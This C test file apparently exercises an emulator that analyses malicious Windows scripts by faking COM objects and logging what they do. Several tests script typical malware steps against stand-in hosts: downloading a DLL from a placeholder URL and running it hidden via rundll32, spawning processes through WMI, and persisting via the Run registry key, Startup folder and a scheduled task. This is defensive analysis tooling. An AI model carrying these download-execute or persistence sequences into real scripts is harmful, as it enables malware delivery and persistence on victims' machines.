#include "unit/test.h"

#include <string.h>

#include "make/made_world.h"

static make_world *m;
static sk_world *w;

static int set_up(void **state)
{
    (void)state;
    m = make_world_new();
    w = m->world;
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    make_world_free(m);
    return 0;
}

static sk_value make(const char *progid)
{
    sk_object *o = sk_world_create(w, sk_str_c(progid));
    assert_non_null(o);
    return sk_object_value(o);
}

static sk_value text(const char *s) { return sk_string_c(s); }

/* target.name(args...), which must succeed. */
static sk_value call(sk_value target, const char *name, size_t count, const sk_value *args)
{
    sk_value v[8], ret;
    for (size_t i = 0; i < count; i++) v[i] = args[i];
    int error = sk_invoke_c(w, &target, name, SK_GET | SK_CALL, v, count, &ret);
    if (error) fail_msg("%s: error %d", name, error);
    return ret;
}
#define CALL(target, name, ...)                                                                                                  \
    call((target), (name), sizeof((sk_value[]){__VA_ARGS__}) / sizeof(sk_value), (const sk_value[]){__VA_ARGS__})

static sk_value get(sk_value target, const char *name) { return call(target, name, 0, NULL); }

static void let(sk_value target, const char *name, sk_value v)
{
    sk_value ret;
    assert_int_equal(sk_invoke_c(w, &target, name, SK_LET, &v, 1, &ret), 0);
}

static const char *text_of(sk_value v)
{
    sk_str s;
    assert_int_equal(sk_value_to_str(w, &v, &s), 0);
    return (const char *)sk_str_to_utf8(&w->strings, s).p;
}

static void assert_told(const char *what)
{
    if (!strstr(make_world_told(m), what)) fail_msg("not told: %s\nbut:\n%s", what, make_world_told(m));
}

static size_t count_told(const char *what)
{
    size_t n = 0;
    for (const char *p = make_world_told(m); (p = strstr(p, what)); p++) n++;
    return n;
}

static void test_download_write_run(void **state)
{
    (void)state;
    w->answers = SK_ALL_SUCCEED;
    sk_value http = make("MSXML2.ServerXMLHTTP.6.0"), stream = make("adodb.stream"), shell = make("WScript.Shell");
    CALL(http, "open", text("GET"), text("http://a.example/x"), sk_bool(false));
    get(http, "send");
    assert_string_equal(text_of(get(http, "status")), "200");
    let(stream, "Type", sk_integer(1));
    get(stream, "Open");
    CALL(stream, "Write", get(http, "responseBody"));
    sk_value path = CALL(shell, "ExpandEnvironmentStrings", text("%TEMP%\\a.dll"));
    assert_string_equal(text_of(path), "C:\\Users\\admin\\AppData\\Local\\Temp\\a.dll");
    CALL(stream, "SaveToFile", path, sk_integer(2));
    CALL(shell, "Run", text("rundll32 %TEMP%\\a.dll,Control_RunDLL"), sk_integer(0), sk_bool(false));
    assert_told("download url=http://a.example/x method=GET via=MSXML2.ServerXMLHTTP.6.0 result=succeeded");
    assert_told("write path=C:\\Users\\admin\\AppData\\Local\\Temp\\a.dll bytes=458752 flow=network unknown");
    assert_told("path=C:\\Users\\admin\\AppData\\Local\\Temp\\a.dll window=hidden via=WScript.Shell.Run flow=network unknown");
    assert_told("child command line script.batch rundll32 ");
}

static void test_all_fail_then_succeed(void **state)
{
    (void)state;
    for (int round = 0; round < 2; round++) {
        sk_value http = make("WinHttp.WinHttpRequest.5.1");
        for (int i = 0; i < 3; i++) {
            CALL(http, "Open", text("GET"), text("http://b.example/"), sk_bool(false));
            get(http, "Send");
            assert_string_equal(text_of(get(http, "Status")), round ? "200" : "404");
        }
        assert_int_equal(count_told("download "), round + 1);
        w = sk_world_again(w, SK_ALL_SUCCEED, NULL);
        assert_non_null(w);
    }
}

static void test_base64_through_msxml(void **state)
{
    (void)state;
    sk_value node = CALL(make("MSXML2.DOMDocument.3.0"), "createElement", text("b64"));
    let(node, "dataType", text("bin.base64"));
    let(node, "text", text("aGVsbG8g\r\nd29ybGQ="));
    sk_value bytes = get(node, "nodeTypedValue");
    assert_int_equal(bytes.type, SK_V_ARRAY);
    assert_true(bytes.flow & SK_FLOW_DECODED);
    assert_bytes(sk_array_to_bytes(w, bytes.u.a), "hello world");
    sk_value back = CALL(make("MSXML2.DOMDocument"), "createElement", text("x"));
    let(back, "dataType", text("bin.base64"));
    let(back, "nodeTypedValue", bytes);
    assert_string_equal(text_of(get(back, "text")), "aGVsbG8gd29ybGQ=");
    let(back, "dataType", text("bin.hex"));
    let(back, "text", text("48690D"));
    assert_bytes(sk_array_to_bytes(w, get(back, "nodeTypedValue").u.a), "Hi\r");
    sk_value stream = make("ADODB.Stream");
    let(stream, "Type", sk_integer(1));
    CALL(stream, "Write", bytes);
    let(stream, "Position", sk_integer(0));
    let(stream, "Type", sk_integer(2));
    let(stream, "Charset", text("us-ascii"));
    assert_string_equal(text_of(get(stream, "ReadText")), "hello world");
    assert_told("decode how=base64 bytes=11");
}

static void test_files_are_seen_later(void **state)
{
    (void)state;
    sk_value fso = make("Scripting.FileSystemObject"), shell = make("WScript.Shell");
    assert_string_equal(text_of(CALL(fso, "FileExists", text("C:\\x\\a.vbs"))), "False");
    CALL(fso, "CreateFolder", text("C:\\x"));
    sk_value out = CALL(fso, "CreateTextFile", text("c:/X/./b/../a.vbs"), sk_bool(true));
    CALL(out, "WriteLine", text("line one"));
    CALL(out, "Write", text("two"));
    get(out, "Close");
    assert_string_equal(text_of(CALL(fso, "FileExists", text("C:\\x\\A.VBS"))), "True");
    sk_value in = CALL(fso, "OpenTextFile", text("C:\\x\\a.vbs"), sk_integer(1));
    assert_string_equal(text_of(get(in, "ReadLine")), "line one");
    assert_string_equal(text_of(get(in, "AtEndOfStream")), "False");
    assert_string_equal(text_of(get(in, "ReadAll")), "two");
    sk_value ret, me = in;
    assert_int_equal(sk_invoke_c(w, &me, "ReadLine", SK_CALL, NULL, 0, &ret), SK_ERR_PAST_END);
    CALL(fso, "CopyFile", text("C:\\x\\a.vbs"), text("C:\\x\\c.vbs"));
    sk_value folder = CALL(fso, "GetFolder", text("C:\\x"));
    assert_string_equal(text_of(get(get(folder, "Files"), "Count")), "2");
    CALL(shell, "Run", text("wscript.exe \"C:\\x\\c.vbs\""));
    assert_told("child c.vbs ? line one\r\ntwo");
    CALL(fso, "DeleteFile", text("C:\\x\\*.vbs"));
    assert_string_equal(text_of(get(get(folder, "Files"), "Count")), "0");
    assert_string_equal(text_of(CALL(fso, "FileExists", text("C:\\Windows\\System32\\cmd.exe"))), "True");
    assert_int_equal(sk_invoke_c(w, &fso, "GetFile", SK_CALL, (sk_value[]){text("C:\\none")}, 1, &ret), SK_ERR_NO_FILE);
}

static void test_wmi_starts(void **state)
{
    (void)state;
    sk_value startup, process, args[4] = {text("cmd /c echo"), sk_null(), sk_empty(), sk_integer(0)}, ret;
    assert_int_equal(sk_world_get_object(w, SK_STR("winmgmts:Win32_ProcessStartup"), SK_STR(""), &startup), 0);
    startup = get(startup, "SpawnInstance_");
    let(startup, "ShowWindow", sk_integer(0));
    assert_int_equal(sk_world_get_object(w, SK_STR("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process"),
                                         SK_STR(""), &process),
                     0);
    args[2] = startup;
    sk_args call_args = {.v = args, .count = 4};
    assert_int_equal(sk_invoke(w, &process, SK_STR("create"), SK_CALL, &call_args, &ret), 0);
    assert_string_equal(text_of(ret), "0");
    assert_true(call_args.assigned == 8);
    assert_string_equal(text_of(args[3]), "4242");
    assert_told("run command=cmd /c echo window=hidden via=Win32_Process.Create");
    sk_value services;
    assert_int_equal(sk_world_get_object(w, SK_STR("winmgmts:\\\\.\\root\\cimv2"), SK_STR(""), &services), 0);
    assert_string_equal(text_of(get(CALL(services, "ExecQuery", text("Select * from Win32_Process")), "Count")), "96");
    assert_string_equal(text_of(get(CALL(services, "ExecQuery", text("Select * from Win32_Process Where Name='x.exe'")), "Count")), "0");
    sk_value made = CALL(CALL(services, "Get", text("Win32_Process")), "Create", text("calc"));
    assert_string_equal(text_of(made), "0");
}

static void test_persistence(void **state)
{
    (void)state;
    sk_value shell = make("WScript.Shell.1");
    CALL(shell, "RegWrite", text("HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"), text("C:\\a.exe"),
         text("REG_SZ"));
    assert_string_equal(text_of(CALL(shell, "RegRead", text("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"))),
                        "C:\\a.exe");
    assert_told("persist how=run-key target=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x command=C:\\a.exe");
    sk_value folder = CALL(shell, "SpecialFolders", text("Startup"));
    sk_str path = sk_path_join(w, folder.u.s, SK_STR("a.vbs"));
    assert_true(sk_world_write(w, path, SK_LIT("x"), 0));
    assert_told("persist how=startup-folder");
    sk_value service = make("Schedule.Service"), task = CALL(service, "NewTask", sk_integer(0));
    sk_value action = CALL(get(task, "Actions"), "Create", sk_integer(0));
    let(action, "Path", text("C:\\b.exe"));
    let(action, "Arguments", text("-q"));
    CALL(get(task, "Triggers"), "Create", sk_integer(1));
    CALL(CALL(service, "GetFolder", text("\\")), "RegisterTaskDefinition", text("t"), task);
    assert_told("persist how=task target=t command=C:\\b.exe -q");
}

static void test_recording_unknowns(void **state)
{
    (void)state;
    sk_value thing = make("Nobody.Knows.This"), ret;
    assert_true(sk_is_unknown(&thing));
    let(thing, "Color", sk_integer(3));
    assert_string_equal(text_of(get(thing, "color")), "3");
    assert_string_equal(text_of(get(thing, "Count")), "0");
    assert_string_equal(text_of(get(get(thing, "Foo"), "Bar")), "{Nobody.Knows.This.Foo.Bar}");
    assert_false(sk_enumerate(w, &thing, 0, &ret));
    sk_value nothing = sk_nothing(), number = sk_integer(1);
    assert_int_equal(sk_invoke_c(w, &nothing, "x", SK_GET, NULL, 0, &ret), SK_ERR_NOTHING);
    assert_int_equal(sk_invoke_c(w, &number, "x", SK_GET, NULL, 0, &ret), SK_ERR_OBJECT);
    assert_int_equal(sk_world_get_object(w, SK_STR("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}"), SK_STR(""), &ret), 0);
    assert_false(sk_is_unknown(&ret));
    assert_int_equal(sk_world_get_object(w, SK_STR("script:http://c.example/s"), SK_STR(""), &ret), 0);
    assert_told("download url=http://c.example/s");
}

static void test_named_arguments(void **state)
{
    (void)state;
    sk_value shell = make("WScript.Shell"), v[2] = {sk_integer(0), text("calc.exe")}, ret;
    sk_str names[2] = {SK_STR("WindowStyle"), SK_STR("command")};
    sk_args args = {.v = v, .count = 2, .names = names, .named_count = 2};
    assert_int_equal(sk_invoke(w, &shell, SK_STR("Run"), SK_CALL, &args, &ret), 0);
    assert_told("run command=calc.exe window=hidden");
}

static void test_dictionary(void **state)
{
    (void)state;
    sk_value d = make("Scripting.Dictionary"), item, ret, put[2] = {text("k"), sk_integer(7)};
    CALL(d, "Add", text("b"), sk_integer(1));
    CALL(d, "Add", sk_integer(5), text("five"));
    assert_int_equal(sk_invoke_c(w, &d, "Add", SK_CALL, put, 2, &ret), 0);
    assert_int_equal(sk_invoke_c(w, &d, "Add", SK_CALL, put, 2, &ret), SK_ERR_KEY_EXISTS);
    assert_string_equal(text_of(call(d, "", 1, (sk_value[]){sk_double(5)})), "five");
    assert_string_equal(text_of(CALL(d, "Exists", text("K"))), "False");
    CALL(d, "Remove", text("b"));
    assert_true(sk_enumerate(w, &d, 0, &item));
    assert_string_equal(text_of(item), "5");
    assert_true(sk_enumerate(w, &d, 1, &item));
    assert_string_equal(text_of(item), "k");
    assert_false(sk_enumerate(w, &d, 2, &item));
    for (int i = 0; i < 3000; i++) CALL(d, "Add", sk_long(1000 + i), sk_long(i));
    for (int i = 0; i < 3000; i += 2) CALL(d, "Remove", sk_long(1000 + i));
    assert_string_equal(text_of(get(d, "Count")), "1502");
    assert_string_equal(text_of(call(d, "Item", 1, (sk_value[]){sk_long(1777)})), "777");
}

static void test_regular_expressions(void **state)
{
    static const struct {
        const char *pattern, *text, *want; /* NULL: no match */
    } rows[] = {
        {"a+b", "xaaab", "aaab"},
        {"a+?", "aaa", "a"},
        {"(a|ab)(c|bcd)(d*)", "abcd", "abcd"},
        {"^b", "ab", NULL},
        {"b$", "ab", "b"},
        {"[^0-9]+", "12ab3", "ab"},
        {"\\bfoo\\b", "a foo b", "foo"},
        {"(\\w)\\1", "hello", "ll"},
        {"x{2,3}", "xxxx", "xxx"},
        {"x{2}", "xxxx", "xx"},
        {"(?:ab)*c", "ababc", "ababc"},
        {"a(?=b)", "acab", "a"},
        {"a(?!c)", "acab", "a"},
        {"(a*)*b", "aaab", "aaab"},
        {"(a*)+$", "aaa!", ""},
        {"\\x41\\u0042", "AB", "AB"},
        {"a|b|c", "xxc", "c"},
        {"", "x", ""},
        {".", "\n", NULL},
        {"((a)|b)+", "ab", "ab"},
        {"(x{2}){2}", "xxxxx", "xxxx"},
        {"a{,2}", "a{,2}", "a{,2}"},
        {"[\\d\\-]+", "a1-2", "1-2"},
    };
    (void)state;
    for (size_t i = 0; i < SK_COUNT(rows); i++) {
        sk_value re = make("VBScript.RegExp");
        let(re, "Pattern", text(rows[i].pattern));
        sk_value hits = CALL(re, "Execute", text(rows[i].text)), hit;
        bool found = sk_enumerate(w, &hits, 0, &hit);
        if (found != (rows[i].want != NULL)) fail_msg("%s on %s", rows[i].pattern, rows[i].text);
        if (found && strcmp(text_of(get(hit, "Value")), rows[i].want) != 0)
            fail_msg("%s gives %s", rows[i].pattern, text_of(get(hit, "Value")));
    }
    sk_value re = make("VBScript.RegExp"), ret, subject = text("x");
    let(re, "Pattern", text("(\\w+) (\\w+)"));
    let(re, "Global", sk_bool(true));
    assert_string_equal(text_of(CALL(re, "Replace", text("ab cd ef gh"), text("$2-$1$$"))), "cd-ab$ gh-ef$");
    static const char *const broken[] = {"(", ")", "[a", "*a", "a{2,1}", "\\", "a**", "(?x)"};
    for (size_t i = 0; i < SK_COUNT(broken); i++) {
        let(re, "Pattern", text(broken[i]));
        assert_int_equal(sk_invoke_c(w, &re, "Test", SK_CALL, &subject, 1, &ret), 5017);
    }
    /* A pattern that explodes ends at its budget. */
    let(re, "Pattern", text("(a+)+$"));
    CALL(re, "Test", text("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"));
    assert_true(m->budget.reached[SK_LIMIT_EMULATE_PATTERN] && w->stopped);
}

static void test_arrays(void **state)
{
    (void)state;
    sk_bound wide = {0, 87025}, two[2] = {{1, 3}, {-1, 1}}, three[2] = {{1, 3}, {-1, 5}};
    sk_array *a = sk_array_new(w, SK_V_EMPTY, 1, &wide);
    uint64_t before = m->budget.used[SK_LIMIT_EMULATE_STRINGS];
    int32_t at[2] = {87025, 0};
    sk_value v = text("x"), got;
    assert_int_equal(sk_array_put(w, a, at, 1, &v), 0);
    assert_true(m->budget.used[SK_LIMIT_EMULATE_STRINGS] - before < 20000);
    at[0] = 87026;
    assert_int_equal(sk_array_put(w, a, at, 1, &v), SK_ERR_SUBSCRIPT);
    at[0] = 5;
    assert_int_equal(sk_array_get(w, a, at, 1, &got), 0);
    assert_int_equal(got.type, SK_V_EMPTY);
    sk_array *b = sk_array_new(w, SK_V_LONG, 2, two);
    for (int32_t i = 1; i <= 3; i++) {
        for (int32_t j = -1; j <= 1; j++) {
            int32_t spot[2] = {i, j};
            sk_value n = sk_double(i * 10 + j + 0.5);
            assert_int_equal(sk_array_put(w, b, spot, 2, &n), 0);
        }
    }
    sk_array *copy = sk_array_copy(w, b);
    assert_int_equal(sk_array_redim(w, b, 2, three, true), 0);
    int32_t spot[2] = {3, 1};
    assert_int_equal(sk_array_get(w, b, spot, 2, &got), 0);
    assert_int_equal(got.u.i, 32); /* 31.5 rounds to even */
    sk_value nine = sk_long(9);
    assert_int_equal(sk_array_put(w, copy, spot, 2, &nine), 0);
    assert_int_equal(sk_array_get(w, b, spot, 2, &got), 0);
    assert_int_equal(got.u.i, 32);
    three[0].high = 4;
    assert_int_equal(sk_array_redim(w, b, 2, three, true), SK_ERR_SUBSCRIPT);
    sk_array *bytes = sk_array_bytes(w, SK_LIT("abc"));
    sk_value s, of = sk_array_value(bytes);
    assert_int_equal(sk_value_to(w, SK_V_STRING, &of, &s), 0);
    assert_int_equal(s.u.s.len, 1); /* three bytes are one UTF-16 unit, and an odd one */
    sk_bound huge[2] = {{INT32_MIN, INT32_MAX}, {0, 1}}, grow = {0, 0};
    assert_null(sk_array_new(w, SK_V_EMPTY, 2, huge));
    sk_array *list = sk_array_new(w, SK_V_EMPTY, 0, NULL);
    for (int32_t i = 0; i < 3000; i++) {
        grow.high = i;
        assert_int_equal(sk_array_redim(w, list, 1, &grow, true), 0);
        sk_value n = sk_long(i);
        assert_int_equal(sk_array_put(w, list, &i, 1, &n), 0);
    }
    assert_true(sk_array_nth(w, list, 2999, &got) && got.u.i == 2999);
    grow.high = 10;
    assert_int_equal(sk_array_redim(w, list, 1, &grow, true), 0);
    grow.high = 20;
    assert_int_equal(sk_array_redim(w, list, 1, &grow, true), 0);
    assert_true(sk_array_nth(w, list, 11, &got) && got.type == SK_V_EMPTY);
}

static void test_effects_are_told_once(void **state)
{
    (void)state;
    sk_value shell = make("WScript.Shell");
    for (int i = 0; i < 1000; i++) CALL(shell, "Run", text("calc.exe"));
    assert_int_equal(count_told("run command="), 1);
    m->budget.limits.value[SK_LIMIT_EMULATE_EFFECTS] = 10;
    for (int i = 0; i < 100 && sk_world_alive(w); i++) {
        sk_value n = sk_long(i);
        CALL(shell, "Popup", n);
    }
    assert_true(m->budget.reached[SK_LIMIT_EMULATE_EFFECTS]);
    assert_false(sk_world_alive(w));
}

static void test_clock(void **state)
{
    (void)state;
    double start = sk_world_timer(w);
    unsigned looks = 0;
    while (sk_world_timer(w) < start + 600 && looks < 100000) looks++;
    assert_in_range(looks, 10, 20000);
    double now = sk_world_now(w);
    sk_world_wait(w, 86400);
    assert_true(sk_world_now(w) >= now + 1);
    assert_told("wait seconds=86400");
}

static void test_dotnet(void **state)
{
    (void)state;
    sk_value utf8 = make("System.Text.UTF8Encoding"), transform = make("System.Security.Cryptography.FromBase64Transform");
    sk_value bytes = CALL(utf8, "GetBytes_4", text("aGk="));
    sk_value plain = CALL(transform, "TransformFinalBlock", bytes, sk_long(0), sk_long(4));
    assert_string_equal(text_of(CALL(utf8, "GetString", plain)), "hi");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_download_write_run, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_all_fail_then_succeed, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_base64_through_msxml, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_files_are_seen_later, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_wmi_starts, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_persistence, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_recording_unknowns, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_named_arguments, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_dictionary, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_regular_expressions, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_arrays, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_effects_are_told_once, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_clock, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_dotnet, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
